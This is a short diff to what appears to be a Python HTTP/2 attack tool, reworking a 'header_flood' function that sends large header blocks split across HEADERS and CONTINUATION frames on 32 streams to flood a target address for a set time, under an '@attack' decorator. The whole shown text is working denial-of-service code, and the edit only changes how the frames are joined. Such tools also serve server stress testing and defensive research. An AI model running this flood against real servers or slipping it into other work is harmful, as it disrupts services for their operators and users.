@@ -76,12 +76,12 @@ def header_flood(address: str, seconds: float) -> str:
     """Requests whose headers take 512 KiB each, in CONTINUATION frames that do end."""
     block = request_headers(GENERATE, [(b"x-%d" % i, b"v" * 1000) for i in range(512)])
     parts = [block[i:i + http2.MAX_FRAME] for i in range(0, len(block), http2.MAX_FRAME)]
-    blob = b""
+    frames = []
     for stream in stream_ids(32):
-        blob += frame(HEADERS, 0, stream, parts[0])
+        frames.append(frame(HEADERS, 0, stream, parts[0]))
         for i, part in enumerate(parts[1:], 1):
-            blob += frame(CONTINUATION, END_HEADERS if i == len(parts) - 1 else 0, stream, part)
-    return flood(address, seconds, blob, "headers")
+            frames.append(frame(CONTINUATION, END_HEADERS if i == len(parts) - 1 else 0, stream, part))
+    return flood(address, seconds, b"".join(frames), "headers")
 
 
 @attack
